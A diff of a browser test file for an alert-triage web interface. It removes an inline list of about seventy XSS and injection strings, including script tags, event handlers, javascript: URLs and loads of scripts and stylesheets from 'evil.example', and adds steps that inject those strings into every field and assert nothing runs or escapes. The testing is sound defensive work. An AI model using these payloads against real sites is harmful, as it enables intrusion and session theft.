@@ -1,75 +1,170 @@
-// Texts of people who know what a browser does with text. Each would set `hit` or show a dialog if it
-// ever became markup, an address or a style.
+// Texts of people who know what a browser does with text, in every field of an alert.
 
-const run = "globalThis.hit=1;alert(1)";
+import assert from "node:assert/strict";
+import { answer } from "./answers.mjs";
+import { broken, hostile } from "./strings.mjs";
+import { address, publish, shot, start, until } from "./tools.mjs";
 
-export const hostile = [
-  `<script>${run}</script>`,
-  `<ScRiPt>${run}</sCrIpT>`,
-  `<script src=//evil.example/x.js></script>`,
-  `<img src=x onerror="${run}">`,
-  `<img src=x onerror=${run}//`,
-  `"><img src=x onerror=${run}>`,
-  `'><svg onload=${run}>`,
-  `<svg><script>${run}</script></svg>`,
-  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
-  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`,
-  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
-  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
-  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
-  `<iframe src="javascript:${run}"></iframe>`,
-  `<object data="javascript:${run}"></object>`,
-  `<embed src="javascript:${run}">`,
-  `<a href="javascript:${run}">ticket</a>`,
-  `javascript:${run}`,
-  `JaVaScRiPt:${run}`,
-  `\u0001javascript:${run}`,
-  `java\nscript:${run}`,
-  `data:text/html,<script>${run}</script>`,
-  `https://evil.example/"onclick="${run}`,
-  `https://user:pass@evil.example/?q=<script>`,
-  `vbscript:msgbox(1)`,
-  `<body onload=${run}>`,
-  `<input autofocus onfocus=${run}>`,
-  `<select autofocus onfocus=${run}>`,
-  `<textarea autofocus onfocus=${run}>`,
-  `<details open ontoggle=${run}>`,
-  `<video><source onerror="${run}"></video>`,
-  `<audio src=x onerror=${run}>`,
-  `<marquee onstart=${run}>x</marquee>`,
-  `<form><button formaction="javascript:${run}">x</button></form>`,
-  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
-  `<link rel=stylesheet href=//evil.example/x.css>`,
-  `<style>@import url(//evil.example/x.css);*{display:none}</style>`,
-  `<base href="//evil.example/">`,
-  `<template><script>${run}</script></template>`,
-  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
-  `<!--><img src=x onerror=${run}>-->`,
-  `<![CDATA[<img src=x onerror=${run}>]]>`,
-  `</textarea><script>${run}</script>`,
-  `</title><script>${run}</script>`,
-  `&lt;script&gt;${run}&lt;/script&gt;`,
-  `&#60;img src=x onerror=${run}&#62;`,
-  `%3Cscript%3E${run}%3C/script%3E`,
-  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
-  `{{constructor.constructor('${run}')()}}`,
-  "${" + run + "}",
-  `';${run};//`,
-  `\`+${run}+\``,
-  `__proto__`,
-  `constructor`,
-  `x" style="position:fixed;inset:0;background:red`,
-  `expression(${run})`,
-  `url(javascript:${run})`,
-  `]]></text><script>${run}</script>`,
-  `"] [data-id] { } ${run}`,
-  `\u202Egnp.exe\u202C \u2066hidden\u2069 \u200Bzero\u200Dwidth`,
-  `\u0000\u0007\u001b[31mred\u001b[0m\r\ninjected: line`,
-  `Z\u0334\u0341\u0330`.repeat(60),
-  "W".repeat(5_000),
-  "wide ".repeat(1_200),
-  "\u{1F469}\u200D\u{1F4BB}".repeat(200),
-  "مرحبا <b>שלום</b> " + "ا".repeat(300),
-  "\n".repeat(500) + "end",
-  "--><script>" + run + "</script><!--",
-];
+export const options = { me: { name: "<b>ada</b>", role: "admin" } };
+export const steps = [];
+const step = (name, run) => steps.push([name, run]);
+
+/** What is wrong with the page as it stands, in words. */
+function faults(bound) {
+  const found = [];
+  const root = document.documentElement;
+  const page = document.querySelector(".case-page, .view");
+  if (root.scrollWidth > bound) found.push(`the page is ${root.scrollWidth} wide`);
+  if (page && page.scrollWidth > document.querySelector(".detail").clientWidth) found.push(`the case is ${page.scrollWidth} wide`);
+  for (const row of document.querySelectorAll(".case")) if (row.checkVisibility() && row.offsetHeight !== 96) found.push(`a row is ${row.offsetHeight} high`);
+  for (const part of document.querySelectorAll(".case-page > *, .two > *, .stack > *")) {
+    if (part.scrollWidth > part.clientWidth + 1) found.push(`${part.className} is too narrow for what it holds`);
+  }
+  for (const node of document.body.querySelectorAll("script, iframe, object, embed, img, link, base, meta, style, math, video, audio, form:not(.bar-row), foreignObject, animate")) found.push(`markup: ${node.outerHTML.slice(0, 80)}`);
+  const heights = /^height: \d+px;$/;
+  for (const node of document.querySelectorAll("*")) {
+    for (const { name, value } of node.attributes) {
+      const leads = /^(href|xlink:href|src|action|formaction|data)$/.test(name) && !/^(#|\/)/.test(value);
+      if (name.startsWith("on") || leads || (name === "style" && value !== "" && !heights.test(value))) found.push(`attribute ${name}: ${value.slice(0, 80)}`);
+    }
+  }
+  if (globalThis.hit) found.push("a script ran");
+  return found;
+}
+
+step(`${hostile.length} hostile strings in every field: nothing runs, nothing breaks out`, async ({ page }) => {
+  const bound = await page.evaluate(() => document.documentElement.scrollWidth);
+  await page.waitForSelector(".case");
+  await until(page, () => /\d/.test(document.querySelector(".count").textContent));
+  const before = Number.parseInt(await page.textContent(".count"), 10);
+  for (const [n, text] of hostile.entries()) publish(poisoned(start[2], text, n));
+  await until(page, (count) => document.querySelector(".pill").textContent.startsWith(`${count} `), hostile.length);
+  await page.keyboard.press("n");
+  await until(page, (count) => document.querySelector(".count").textContent.startsWith(`${count} `), hostile.length + before);
+  // What is out of sight is laid out too.
+  await page.evaluate(() => {
+    const sheet = new CSSStyleSheet();
+    sheet.replaceSync(".case-page > * { content-visibility: visible !important; }");
+    document.adoptedStyleSheets = [sheet];
+  });
+  for (const [n, text] of hostile.entries()) {
+    const id = hostileId(n);
+    await page.evaluate((id) => (location.hash = `#/alerts/${id}`), id);
+    await until(page, (id) => document.querySelector(".links .id")?.textContent === id, id);
+    const found = await page.evaluate(faults, bound);
+    if (found.length) await shot(page, "failed");
+    assert.deepEqual(found, [], `string ${n}: ${JSON.stringify(text).slice(0, 80)}`);
+    if (n === 7) await shot(page, "hostile");
+  }
+});
+
+/** Every text of a value replaced. */
+function filled(value, text) {
+  if (typeof value === "string") return text;
+  if (Array.isArray(value)) return value.map((one) => filled(one, text));
+  if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, filled(one, text)]));
+  return value;
+}
+
+/** An answer whose lists hold one entry for each hostile string, in every field of it. */
+function flooded(body) {
+  const one = (value, text) => {
+    const bad = filled(value, text);
+    // What tells kinds of entries apart stays, or nothing of it would be shown.
+    for (const name of ["kind", "state"]) if (typeof value?.[name] === "string") bad[name] = value[name];
+    return bad;
+  };
+  const texts = hostile.map((text) => text.slice(0, 700));
+  const all = Object.entries(body).map(([key, value]) => {
+    if (key === "next") return [key, null];
+    if (key === "days") return [key, value];
+    if (Array.isArray(value)) return [key, texts.map((text, n) => one(value[n % value.length], text))];
+    return [key, filled(value, texts[5])];
+  });
+  return Object.fromEntries(all);
+}
+
+const VIEWS = ["#/identities/x", "#/agents/x", "#/pivots/caller/x", "#/patterns", "#/silences", "#/audit"];
+
+step("the same in every field of what the other views are told", async ({ context, page }) => {
+  await answer(context, flooded);
+  const bound = await page.evaluate(() => innerWidth);
+  for (const hash of VIEWS) {
+    await page.evaluate((hash) => (location.hash = hash), hash);
+    await until(page, (count) => document.querySelectorAll(".view tbody tr").length >= count, hostile.length);
+    assert.deepEqual(await page.evaluate(faults, bound), [], hash);
+  }
+  await shot(page, "hostile-audit");
+  await page.keyboard.press("Control+k");
+  await page.keyboard.type("x");
+  await until(page, () => document.querySelectorAll(".results li").length > 100);
+  assert.deepEqual(await page.evaluate(faults, bound), [], "search");
+  await page.keyboard.press("Escape");
+  await context.unroute((url) => url.pathname.startsWith("/api/v1/search"));
+});
+
+step("hostile addresses lead nowhere else", async ({ page }) => {
+  const bound = await page.evaluate(() => innerWidth);
+  for (const text of hostile.filter((_, n) => n % 3 === 0)) {
+    for (const hash of [`#/${text.slice(0, 300)}`, `#/?text=${encodeURIComponent(text.slice(0, 60))}&group=${encodeURIComponent(text.slice(0, 60))}`]) {
+      await page.evaluate((hash) => (location.hash = hash), hash);
+    }
+    const found = await page.evaluate(faults, bound);
+    assert.deepEqual(found, [], JSON.stringify(text).slice(0, 80));
+  }
+  await page.goto(`${address}/#/`);
+  await page.waitForSelector(".case");
+});
+
+step("a case as Markdown is text and nothing else", async ({ page }) => {
+  const alerts = hostile.map((text, n) => poisoned(start[2], text, n));
+  const bad = await page.evaluate(async (alerts) => {
+    const [{ read }, { markdown }] = await Promise.all([import("/ui/alert.js"), import("/ui/export.js")]);
+    return alerts.flatMap((alert, n) => {
+      const text = markdown(read(alert));
+      const found = [];
+      if (/(^|[^\\])[<>`[\]!]/.test(text.replaceAll("\\\\", ""))) found.push("markup");
+      if (/\w:\/\//.test(text)) found.push("an address");
+      for (const line of text.split("\n")) if (line.startsWith("| ") && line.replaceAll("\\\\", "").match(/(?<!\\)\|/g).length !== 6) found.push(`cells: ${line.slice(0, 80)}`);
+      return found.map((what) => `${n}: ${what}`);
+    });
+  }, alerts);
+  assert.deepEqual(bad, []);
+});
+
+step("halves of characters, and characters that hide, are shown by their number", async ({ page }) => {
+  const seen = await page.evaluate(async (texts) => {
+    const { visible } = await import("/ui/dom.js");
+    return texts.map((text) => visible(text));
+  }, [...broken, "a\u202eb", "a\u0000b", "x\u{e0041}", `a${"\u0301".repeat(50)}`]);
+  assert.deepEqual(seen, ["⟨U+D800⟩", "⟨U+DFFF⟩", "a⟨U+D83D⟩", "⟨U+DE00⟩b", "⟨U+D83D⟩\u{1f600}", "a⟨U+202E⟩b", "a⟨U+0000⟩b", "x⟨U+E0041⟩", "a\u0301\u0301"]);
+});
+
+const hostileId = (n) => `bad${String(n).padStart(29, "0")}`;
+
+/** The alert with a text in every field that is text and no id of a closed vocabulary. */
+function poisoned(alert, text, n) {
+  const keep = new Set(["uid_alert", "version", "profiles", "state", "family", "type_uid", "criticality"]);
+  const change = (value, name) => {
+    if (typeof value === "string") return keep.has(name) ? value : text;
+    if (Array.isArray(value)) return value.map((one) => change(one, name));
+    if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, change(one, key)]));
+    return value;
+  };
+  const bad = change(structuredClone(alert), "");
+  // What the server goes by, and what ties events to findings.
+  bad.finding_info.uid = hostileId(n);
+  bad.metadata.sequence = 1;
+  bad.activity_id = 1;
+  bad.time += 1_000 + n;
+  bad.evidences.forEach((one, k) => {
+    if (n % 2) one.data.events = alert.evidences[k].data.events;
+    if (n % 3) one.data.pattern = alert.evidences[k].data.pattern;
+  });
+  bad.finding_info.related_events.forEach((one, k) => {
+    if (n % 2) one.uid = alert.finding_info.related_events[k].uid;
+    if (n % 3) one.tags.forEach((tag, t) => (tag.name = alert.finding_info.related_events[k].tags[t].name));
+  });
+  if (n % 4 === 1) bad.resources[0].criticality = text;
+  return bad;
+}
